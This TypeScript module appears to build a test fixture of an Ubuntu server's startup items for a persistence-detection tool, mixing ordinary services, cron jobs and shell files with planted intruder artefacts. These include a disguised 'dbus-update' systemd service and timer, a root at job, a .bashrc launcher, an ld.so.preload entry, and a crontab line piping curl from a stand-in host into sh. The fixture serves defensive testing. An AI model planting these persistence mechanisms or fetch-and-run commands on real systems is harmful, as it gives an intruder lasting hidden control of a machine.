/**
 * Startup and persistence items of the fixture root (web01, Ubuntu 22.04 with
 * merged /usr: /bin, /sbin and /lib link into /usr): ordinary services, cron
 * jobs and session files, plus what the intruder's `x.sh` left at
 * {@link PLANTED_MTIME}:
 *
 * - `/etc/systemd/system/dbus-update.service` (enabled) and `dbus-update.timer`
 *   running `/var/tmp/.x/dbus-update`;
 * - alice's crontab piping `curl http://198.51.100.23/x.sh` into `sh`, at boot and every 15 minutes;
 * - an at job queued as uid 0 by `sysupdate`, running the implant once more;
 * - a line at the end of alice's `.bashrc` starting the implant;
 * - `/etc/ld.so.preload` loading `/usr/lib/libsystem.so`.
 *
 * Deliberate edge cases: unit directories reached twice (`/lib/systemd/system`
 * is `/usr/lib/systemd/system`), an alias symlink (`sshd.service`) that must
 * not be listed twice, a disabled unit whose program is missing
 * (`legacy-backup.service`), a line continuation, `-` Exec prefixes, quoted
 * arguments, an Exec path through the `/sbin` link, an environment line and
 * `@reboot` in crontabs, a run-parts placeholder that does not run, a
 * leftover init script with no rc links, Debian's
 * `/etc/modules-load.d/modules.conf` → `../modules` link, a udev rule
 * continued over two lines with a `RUN{builtin}` that is not a program.
 */
import { lstat, mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { buildPrograms, PLANTED_MTIME } from './persistence-programs.js';
import { link, put } from './write.js';

export { PLANTED_MTIME } from './persistence-programs.js';

const SSH_SERVICE = `[Unit]
Description=OpenBSD Secure Shell server
Documentation=man:sshd(8) man:sshd_config(5)
After=network.target auditd.service
ConditionPathExists=!/etc/ssh/sshd_not_to_be_run

[Service]
EnvironmentFile=-/etc/default/ssh
ExecStartPre=/usr/sbin/sshd -t
ExecStart=/usr/sbin/sshd -D $SSHD_OPTS
ExecReload=/usr/sbin/sshd -t
KillMode=process
Restart=on-failure
RestartPreventExitStatus=255
Type=notify
RuntimeDirectory=sshd
RuntimeDirectoryMode=0755

[Install]
WantedBy=multi-user.target
Alias=sshd.service
`;

const CRON_SERVICE = `[Unit]
Description=Regular background program processing daemon
Documentation=man:cron(8)
After=remote-fs.target nss-user-lookup.target

[Service]
EnvironmentFile=-/etc/default/cron
ExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS
IgnoreSIGPIPE=false
KillMode=process
Restart=on-failure
SyslogFacility=cron

[Install]
WantedBy=multi-user.target
`;

const NGINX_SERVICE = `# Stop dance for nginx
# =======================
#
# ExecStop sends SIGQUIT (graceful stop) to the nginx process.
[Unit]
Description=A high performance web server and a reverse proxy server
Documentation=man:nginx(8)
After=network.target nss-lookup.target

[Service]
Type=forking
PIDFile=/run/nginx.pid
ExecStartPre=/usr/sbin/nginx -t -q -g 'daemon on; master_process on;'
ExecStart=/usr/sbin/nginx -g 'daemon on; master_process on;'
ExecReload=/usr/sbin/nginx -g 'daemon on; master_process on;' -s reload
ExecStop=-/sbin/start-stop-daemon --quiet --stop --retry QUIT/5 --pidfile /run/nginx.pid
TimeoutStopSec=5
KillMode=mixed

[Install]
WantedBy=multi-user.target
`;

/** An admin's unit for a backup agent since uninstalled: disabled, its program gone. */
const LEGACY_BACKUP_SERVICE = `[Unit]
Description=Nightly backup agent (replaced by restic, 2025)

[Service]
Type=oneshot
User=backup
ExecStart=/opt/backup/bin/backup-agent --nightly
`;

const APT_DAILY_SERVICE = `[Unit]
Description=Daily apt download activities
Documentation=man:apt(8)
ConditionACPower=true
After=network.target network-online.target systemd-networkd.service NetworkManager.service connman.service

[Service]
Type=oneshot
ExecStartPre=-/usr/lib/apt/apt-helper wait-online
ExecStart=/usr/lib/apt/apt.systemd.daily update
`;

const APT_DAILY_TIMER = `[Unit]
Description=Daily apt download activities

[Timer]
OnCalendar=*-*-* 6,18:00
RandomizedDelaySec=12h
Persistent=true

[Install]
WantedBy=timers.target
`;

const DBUS_UPDATE_SERVICE = `[Unit]
Description=D-Bus System Update Helper
After=network-online.target
Wants=network-online.target

[Service]
Type=simple
ExecStart=/var/tmp/.x/dbus-update \\
    --daemon --interval 300
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
`;

const DBUS_UPDATE_TIMER = `[Unit]
Description=D-Bus System Update Helper timer

[Timer]
OnBootSec=5min
OnUnitActiveSec=1h
Unit=dbus-update.service

[Install]
WantedBy=timers.target
`;

async function buildSystemd(root: string) {
  await put(root, '/usr/lib/systemd/system/ssh.service', SSH_SERVICE);
  await put(root, '/usr/lib/systemd/system/nginx.service', NGINX_SERVICE);
  await put(root, '/usr/lib/systemd/system/cron.service', CRON_SERVICE);
  await put(root, '/usr/lib/systemd/system/apt-daily.service', APT_DAILY_SERVICE);
  await put(root, '/usr/lib/systemd/system/apt-daily.timer', APT_DAILY_TIMER);
  await put(root, '/etc/systemd/system/legacy-backup.service', LEGACY_BACKUP_SERVICE, {
    mtime: new Date('2024-06-03T08:30:00Z'),
  });
  // Links as systemctl writes them on Ubuntu: to /lib, which is /usr/lib.
  await link(root, '/etc/systemd/system/sshd.service', '/lib/systemd/system/ssh.service');
  for (const unit of ['ssh.service', 'nginx.service', 'cron.service']) {
    await link(root, `/etc/systemd/system/multi-user.target.wants/${unit}`, `/lib/systemd/system/${unit}`);
  }
  const timers = '/etc/systemd/system/timers.target.wants';
  await link(root, `${timers}/apt-daily.timer`, '/lib/systemd/system/apt-daily.timer');

  await put(root, '/etc/systemd/system/dbus-update.service', DBUS_UPDATE_SERVICE, { mtime: PLANTED_MTIME });
  await put(root, '/etc/systemd/system/dbus-update.timer', DBUS_UPDATE_TIMER, { mtime: PLANTED_MTIME });
  const wants = '/etc/systemd/system/multi-user.target.wants';
  await link(root, `${wants}/dbus-update.service`, '/etc/systemd/system/dbus-update.service');
  await link(root, `${timers}/dbus-update.timer`, '/etc/systemd/system/dbus-update.timer');
}

const CRONTAB = `# /etc/crontab: system-wide crontab
# Unlike any other crontab you don't have to run the \`crontab'
# command to install the new version when you edit this file
# and files in /etc/cron.d. These files also have username fields,
# that none of the other crontabs do.

SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# |  .------------- hour (0 - 23)
# |  |  .---------- day of month (1 - 31)
# |  |  |  .------- month (1 - 12) OR jan,feb,mar,apr ...
# |  |  |  |  .---- day of week (0 - 6) (Sunday=0 or 7) OR sun,mon,tue,wed,thu,fri,sat
# |  |  |  |  |
# *  *  *  *  * user-name command to be executed
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
#
`;

const CRON_D_SYSSTAT = `# The first element of the path is a directory where the debian-sa1
# script is located
PATH=/usr/lib/sysstat:/usr/sbin:/usr/sbin:/usr/bin:/sbin:/bin

# Activity reports every 10 minutes everyday
5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1

# Additional run at 23:59 to rotate the statistics file
59 23 * * * root command -v debian-sa1 > /dev/null && debian-sa1 60 2
`;

const ALICE_CRONTAB = `# DO NOT EDIT THIS FILE - edit the master and reinstall.
# (/tmp/crontab.Xb3kQ2/crontab installed on Sun Nov 22 02:15:46 2026)
# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)
MAILTO=""
@reboot curl -fsSL http://198.51.100.23/x.sh | sh
*/15 * * * * curl -fsSL http://198.51.100.23/x.sh | sh >/dev/null 2>&1
`;

const ANACRONTAB = `# /etc/anacrontab: configuration file for anacron

# See anacron(8) and anacrontab(5) for details.

SHELL=/bin/sh
HOME=/root
LOGNAME=root

# These replace cron's entries
1\t5\tcron.daily\trun-parts --report /etc/cron.daily
7\t10\tcron.weekly\trun-parts --report /etc/cron.weekly
@monthly\t15\tcron.monthly\trun-parts --report /etc/cron.monthly
`;

const LOGROTATE_DAILY = `#!/bin/sh

# skip in favour of systemd timer
if [ -d /run/systemd/system ]; then
    exit 0
fi

/usr/sbin/logrotate /etc/logrotate.conf
`;

/** at job 3, queued as uid 0 by sysupdate for 2026-11-24T02:00:00Z (0x01c89d98 minutes after the epoch). */
const AT_JOB = `#!/bin/sh
# atrun uid=0 gid=0
# mail sysupdate 0
umask 22
HOME=/var/lib/sysupdate; export HOME
LOGNAME=sysupdate; export LOGNAME
PATH=/usr/local/bin:/usr/bin:/bin; export PATH
SHELL=/bin/bash; export SHELL
cd /var/lib/sysupdate || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
\${SHELL:-/bin/sh} << 'marcinDELIMITER5a1c03e7'
/var/tmp/.x/dbus-update --once
marcinDELIMITER5a1c03e7
`;

async function buildScheduled(root: string) {
  await put(root, '/etc/crontab', CRONTAB);
  await put(root, '/etc/cron.d/sysstat', CRON_D_SYSSTAT);
  await put(root, '/var/spool/cron/crontabs/alice', ALICE_CRONTAB, { mode: 0o600, mtime: PLANTED_MTIME });
  await put(root, '/etc/anacrontab', ANACRONTAB);
  await put(root, '/etc/cron.daily/logrotate', LOGROTATE_DAILY, { mode: 0o755 });
  await put(
    root,
    '/etc/cron.daily/.placeholder',
    '# DO NOT EDIT OR REMOVE\n# This file is a simple placeholder to keep dpkg from removing this directory\n',
  );
  await put(root, '/var/spool/cron/atjobs/a0000301c89d98', AT_JOB, { mode: 0o700, mtime: PLANTED_MTIME });
  await put(root, '/var/spool/cron/atjobs/.SEQ', '3\n', { mode: 0o600, mtime: PLANTED_MTIME });
}

const RC_LOCAL = `#!/bin/sh -e
#
# rc.local
#
# This script is executed at the end of each multiuser runlevel.
# Make sure that the script will "exit 0" on success or any other
# value on error.

/usr/local/bin/fan-control --profile quiet

exit 0
`;

const initScript = (name: string, daemon: string) => `#!/bin/sh
### BEGIN INIT INFO
# Provides:          ${name}
# Required-Start:    $remote_fs $syslog
# Required-Stop:     $remote_fs $syslog
# Default-Start:     2 3 4 5
# Default-Stop:
# Short-Description: ${name} daemon
### END INIT INFO

DAEMON=${daemon}
test -x $DAEMON || exit 0
. /lib/lsb/init-functions

case "$1" in
  start) start-stop-daemon --start --quiet --exec $DAEMON ;;
  stop) start-stop-daemon --stop --quiet --exec $DAEMON ;;
  *) echo "Usage: /etc/init.d/${name} {start|stop}"; exit 1 ;;
esac
exit 0
`;

async function buildBootScripts(root: string) {
  await put(root, '/etc/rc.local', RC_LOCAL, { mode: 0o755 });
  await put(root, '/etc/init.d/cron', initScript('cron', '/usr/sbin/cron'), { mode: 0o755 });
  await put(root, '/etc/init.d/rsync', initScript('rsync', '/usr/bin/rsync'), { mode: 0o755 });
  for (const level of ['2', '3', '4', '5']) await link(root, `/etc/rc${level}.d/S01cron`, '../init.d/cron');
  await link(root, '/etc/rc1.d/K01rsync', '../init.d/rsync');
}

const AT_SPI_DESKTOP = `[Desktop Entry]
Type=Application
Name=AT-SPI D-Bus Bus
Exec=/usr/libexec/at-spi-bus-launcher --launch-immediately
OnlyShowIn=GNOME;Unity;
NoDisplay=true
X-GNOME-AutoRestart=true
X-GNOME-Autostart-Phase=Initialization
`;

const GNOME_SOFTWARE_DESKTOP = `[Desktop Entry]
Type=Application
Name=GNOME Software
Name[de]=GNOME Software
Exec=gnome-software --gapplication-service
OnlyShowIn=GNOME;Unity;
NoDisplay=true
X-GNOME-Autostart-enabled=false
`;

const PROFILE = `# /etc/profile: system-wide .profile file for the Bourne shell (sh(1))
# and Bourne compatible shells (bash(1), ksh(1), ash(1), ...).

if [ "$(id -u)" -eq 0 ]; then
  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
else
  PATH="/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games"
fi
export PATH

if [ -d /etc/profile.d ]; then
  for i in /etc/profile.d/*.sh; do
    if [ -r $i ]; then
      . $i
    fi
  done
  unset i
fi
`;

const BASH_COMPLETION_SH = `# shellcheck shell=sh disable=SC1091,SC2039,SC2166
# Check for interactive bash and that we haven't already been sourced.
if [ "x\${BASH_VERSION-}" != x -a "x\${PS1-}" != x -a "x\${BASH_COMPLETION_VERSINFO-}" = x ]; then
    if [ -r /usr/share/bash-completion/bash_completion ]; then
        . /usr/share/bash-completion/bash_completion
    fi
fi
`;

const BASH_BASHRC = `# System-wide .bashrc file for interactive bash(1) shells.

# If not running interactively, don't do anything
[ -z "$PS1" ] && return

shopt -s checkwinsize
PS1='\${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ '
`;

const ALICE_BASHRC = `# ~/.bashrc: executed by bash(1) for non-login shells.

case $- in
    *i*) ;;
      *) return;;
esac

HISTCONTROL=ignoreboth
HISTSIZE=1000
alias ll='ls -alF'
(nohup /var/tmp/.x/dbus-update --once >/dev/null 2>&1 &)
`;

const ALICE_PROFILE = `# ~/.profile: executed by the command interpreter for login shells.
if [ -n "$BASH_VERSION" ]; then
    if [ -f "$HOME/.bashrc" ]; then
        . "$HOME/.bashrc"
    fi
fi
if [ -d "$HOME/bin" ] ; then
    PATH="$HOME/bin:$PATH"
fi
`;

async function buildSession(root: string) {
  await put(root, '/etc/xdg/autostart/at-spi-dbus-bus.desktop', AT_SPI_DESKTOP);
  await put(root, '/home/alice/.config/autostart/org.gnome.Software.desktop', GNOME_SOFTWARE_DESKTOP);
  await put(
    root,
    '/etc/environment',
    'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\n',
  );
  await put(root, '/etc/profile', PROFILE);
  await put(root, '/etc/profile.d/bash_completion.sh', BASH_COMPLETION_SH);
  await put(root, '/etc/bash.bashrc', BASH_BASHRC);
  await put(root, '/home/alice/.bashrc', ALICE_BASHRC, { mtime: PLANTED_MTIME });
  await put(root, '/home/alice/.profile', ALICE_PROFILE);
}

const ETC_MODULES = `# /etc/modules: kernel modules to load at boot time.
#
# This file contains the names of kernel modules that should be loaded
# at boot time, one per line. Lines beginning with "#" are ignored.
# Parameters can be specified after the module name.

loop
`;

const HWCLOCK_RULES = `# Set the System Time from the Hardware Clock and set the kernel's timezone
# value to the local timezone when the kernel clock module is loaded.

KERNEL=="rtc0", RUN+="/lib/udev/hwclock-set $root/$name"
`;

const USB_BACKUP_RULES = `# Back up to the USB disk labelled BACKUP when it is plugged in
ACTION=="add", SUBSYSTEM=="block", ENV{ID_FS_LABEL}=="BACKUP", \\
  RUN{builtin}+="kmod load usb-storage", RUN+="/usr/local/bin/usb-backup %k"
`;

async function buildLoaderAndKernel(root: string) {
  await put(root, '/etc/ld.so.preload', '/usr/lib/libsystem.so\n', { mtime: PLANTED_MTIME });
  await put(root, '/etc/modules', ETC_MODULES);
  await link(root, '/etc/modules-load.d/modules.conf', '../modules');
  await put(root, '/etc/modules-load.d/br_netfilter.conf', '# for Kubernetes networking\nbr_netfilter\n');
  await put(root, '/usr/lib/udev/rules.d/85-hwclock.rules', HWCLOCK_RULES);
  await put(root, '/etc/udev/rules.d/99-usb-backup.rules', USB_BACKUP_RULES);
}

/**
 * Ubuntu's merged /usr: /bin, /sbin and /lib are links into /usr. Left alone
 * when another part of the fixture already made them.
 */
async function buildMergedUsr(root: string) {
  for (const dir of ['bin', 'sbin', 'lib']) {
    await mkdir(join(root, 'usr', dir), { recursive: true });
    const present = await lstat(join(root, dir)).then(
      () => true,
      () => false,
    );
    if (!present) await link(root, `/${dir}`, `usr/${dir}`);
  }
}

/**
 * Writes the startup items, the planted persistence and the programs they run.
 *
 * @param root - the fixture root directory on this machine
 */
export async function buildPersistence(root: string): Promise<void> {
  await buildMergedUsr(root);
  await buildPrograms(root);
  await buildSystemd(root);
  await buildScheduled(root);
  await buildBootScripts(root);
  await buildSession(root);
  await buildLoaderAndKernel(root);
}
